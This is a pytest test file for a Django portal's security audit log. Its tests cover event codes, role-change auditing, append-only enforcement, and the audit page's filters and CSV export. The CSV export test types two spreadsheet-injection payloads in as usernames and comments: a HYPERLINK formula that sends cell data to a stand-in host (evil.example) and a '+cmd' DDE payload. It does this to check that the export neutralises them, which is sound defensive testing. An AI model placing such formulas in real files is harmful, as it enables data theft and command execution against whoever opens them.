"""安全审计: events as data, role changes, append-only log, the administrators' audit page."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.db import connection, transaction
from django.utils import translation

from portal import audit
from portal.models import AuditEntry, AuditEvent, AuditOutcome, Role

PASSWORD = "Lz7#qWx9-tk"


@pytest.fixture
def org(make_org):
    return make_org("审计测试县人民政府")


@pytest.fixture
def org_admin(make_user, org):
    return make_user("auditadmin", org, Role.ORG_ADMIN)


# --------------------------------------------------------------------------- codes, not sentences


def test_the_older_record_call_stores_a_code_and_reads_in_the_readers_language(org):
    with translation.override("zh-hans"):
        entry = audit.record(None, org, "新增", comment="后台新增")
    assert entry.event == AuditEvent.ADD and "verb" not in entry.params
    with translation.override("en"):
        assert entry.verb == "Added"
    with translation.override("zh-hans"):
        assert entry.verb == "新增"


def test_a_verb_written_under_english_still_finds_its_code(org):
    with translation.override("en"):
        entry = audit.record(None, org, str(AuditEvent.DELETE.label))
    assert entry.event == AuditEvent.DELETE


def test_every_workflow_step_of_every_app_has_a_code():
    from annual.services import WORKFLOW as ANNUAL
    from catalog.models import AdjustmentAction
    from disclosure.services import WORKFLOW as DISCLOSURE
    from requests_app.services import EVENTS as REQUEST_EVENTS
    from requests_app.services import WORKFLOW as REQUESTS

    for language in ("zh-hans", "en"):
        with translation.override(language):
            for verb, step in REQUESTS.steps.items():
                assert audit.resolve_event(str(step.label), "requests_app") == f"requests_app.{verb}"
            for code, label in REQUEST_EVENTS.items():
                assert audit.resolve_event(str(label), "requests_app") == f"requests_app.{code}"
            for verb, step in ANNUAL.steps.items():
                assert audit.resolve_event(str(step.label), "annual") == f"annual.{verb}"
            for verb, step in DISCLOSURE.steps.items():
                assert audit.resolve_event(str(step.label), "disclosure") == f"disclosure.{verb}"
            for action in AdjustmentAction:
                assert audit.resolve_event(str(action.label), "catalog") == f"catalog.{action.value}"


def test_the_same_text_of_two_apps_keeps_apart_by_the_targets_app():
    assert audit.resolve_event("提交审核", "disclosure") == "disclosure.submit"
    assert audit.resolve_event("提交审核", "annual") == "annual.submit"


def test_states_are_stored_as_codes_and_rendered_from_the_models_choices():
    from disclosure.models import ItemState

    code = audit.resolve_state(str(ItemState.PUBLISHED.label), "disclosure")
    assert code == "disclosure.disclosureitem.state:published"
    with translation.override("en"):
        assert audit.state_label(code) == str(ItemState.PUBLISHED.label)


def test_unknown_text_is_kept_as_a_legacy_entry_that_reads_the_same(org):
    entry = audit.record(None, org, "某种旧操作", from_state="旧状态", to_state="新状态")
    assert entry.event == AuditEvent.LEGACY
    assert (entry.verb, entry.from_state, entry.to_state) == ("某种旧操作", "旧状态", "新状态")


def test_record_event_refuses_an_unknown_code(org):
    with pytest.raises(ValueError):
        audit.record_event("no-such-event", actor=None)


# --------------------------------------------------------------------------- role changes


def test_a_role_given_and_taken_in_the_admin_is_audited(client, make_user, org, org_admin):
    target = make_user("newclerk", org)
    client.force_login(org_admin)
    clerk_group = Group.objects.get(name=Role.CLERK)
    data = {
        "username": "newclerk",
        "full_name": "新录入员",
        "email": "",
        "phone": "",
        "organization": org.pk,
        "is_active": "on",
        "is_staff": "on",
        "groups": [clerk_group.pk],
        "date_joined_0": "2026-01-05",
        "date_joined_1": "09:00:00",
        "last_login_0": "",
        "last_login_1": "",
    }
    response = client.post(f"/admin/portal/user/{target.pk}/change/", data, REMOTE_ADDR="127.0.0.1")
    assert response.status_code == 302, response.content.decode()[:2000]
    given = AuditEntry.objects.get(event=AuditEvent.GROUPS_CHANGED)
    assert given.actor == org_admin and given.params["added"] == [Role.CLERK.value]
    assert given.object_id == str(target.pk) and given.ip == "127.0.0.1"
    assert "录入员" in given.detail

    data["groups"] = []
    client.post(f"/admin/portal/user/{target.pk}/change/", data)
    taken = AuditEntry.objects.filter(event=AuditEvent.GROUPS_CHANGED).order_by("-id").first()
    assert taken.params["removed"] == [Role.CLERK.value]


# --------------------------------------------------------------------------- append-only


def test_the_admin_cannot_change_or_delete_an_entry_even_as_superuser(client, make_user, org):
    root = make_user("root", org, is_superuser=True)
    entry = audit.record_event(AuditEvent.LOGIN, actor=root)
    client.force_login(root)
    response = client.post(f"/admin/portal/auditentry/{entry.pk}/delete/", {"post": "yes"})
    assert response.status_code == 403
    client.post(
        "/admin/portal/auditentry/", {"action": "delete_selected", "_selected_action": [entry.pk], "post": "yes"}
    )
    assert AuditEntry.objects.filter(pk=entry.pk).exists()


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the append-only trigger is PostgreSQL's")
def test_postgresql_refuses_update_and_delete_of_the_audit_log(org):
    from django.db import DatabaseError

    entry = audit.record_event(AuditEvent.LOGIN, actor=None, username="someone")
    with pytest.raises(DatabaseError, match="append-only"):
        with transaction.atomic():
            AuditEntry.objects.filter(pk=entry.pk).update(comment="rewritten")
    with pytest.raises(DatabaseError, match="append-only"):
        with transaction.atomic():
            AuditEntry.objects.filter(pk=entry.pk).delete()
    entry.refresh_from_db()
    assert entry.comment == ""


# --------------------------------------------------------------------------- the audit page


def _failed_login(client, username, address):
    client.post("/admin/login/", {"username": username, "password": "wrong"}, REMOTE_ADDR=address)


def test_the_audit_page_filters_by_user_event_outcome_address_and_date(client, make_user, org, org_admin):
    clerk = make_user("pageclerk", org, Role.CLERK)
    _failed_login(client, "pageclerk", "198.51.100.5")
    audit.record_event(AuditEvent.LOGIN, actor=clerk, comment="marker-login")
    staff = client.__class__()
    staff.force_login(org_admin)

    body = staff.get("/staff/audit/").content.decode()
    assert "安全审计日志" in body and "pageclerk" in body

    failed = staff.get("/staff/audit/", {"event": "login_failed"}).content.decode()
    assert "198.51.100.5" in failed and "marker-login" not in failed
    by_outcome = staff.get("/staff/audit/", {"outcome": "success", "user": "pageclerk"}).content.decode()
    assert "marker-login" in by_outcome and "198.51.100.5" not in by_outcome
    by_ip = staff.get("/staff/audit/", {"ip": "198.51.100."}).content.decode()
    assert "198.51.100.5" in by_ip and "marker-login" not in by_ip
    future = staff.get("/staff/audit/", {"start": "2099-01-01"}).content.decode()
    assert "pageclerk" not in future.split("<table")[-1] and "没有符合条件的记录" in future
    bad = staff.get("/staff/audit/", {"start": "2026-05-02", "end": "2026-05-01"})
    assert bad.status_code == 200 and "起始日期不能晚于截止日期" in bad.content.decode()


def test_an_org_admin_sees_only_its_own_subtrees_accounts(client, make_user, make_org, org, org_admin):
    other_org = make_org("另一县人民政府")
    stranger = make_user("stranger", other_org, Role.CLERK)
    audit.record_event(AuditEvent.LOGIN, actor=stranger, comment="stranger-login")
    _failed_login(client, "stranger", "203.0.113.77")
    client.force_login(org_admin)
    body = client.get("/staff/audit/").content.decode()
    assert "stranger-login" not in body and "203.0.113.77" not in body


def test_people_without_the_audit_permission_are_refused(client, make_user, org):
    client.force_login(make_user("justclerk", org, Role.CLERK))
    assert client.get("/staff/audit/").status_code == 403
    assert client.get("/staff/audit/export.csv").status_code == 403


def test_the_csv_export_defuses_a_formula_typed_as_a_username_and_is_audited(client, make_user, org, org_admin):
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'
    # Failed logins are visible to an org admin only for its own accounts; the superuser sees all.
    root = make_user("root", org, is_superuser=True)
    _failed_login(client, formula, "198.51.100.8")
    audit.record_event(AuditEvent.LOGIN, actor=org_admin, comment="+cmd|' /C calc'!A0")
    staff = client.__class__()
    staff.force_login(root)
    response = staff.get("/staff/audit/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells and formula not in cells
    assert any(cell.startswith("'+cmd") for cell in cells)
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
    assert AuditEntry.objects.filter(event=AuditEvent.AUDIT_EXPORT, actor=root).exists()


def test_account_events_have_no_target_and_render_their_outcome(org):
    entry = audit.record_event(AuditEvent.LOGIN_FAILED, actor=None, username="ghost", outcome=AuditOutcome.FAILURE)
    assert entry.content_type is None and entry.object_repr == ""
    assert entry.get_outcome_display() == "失败"
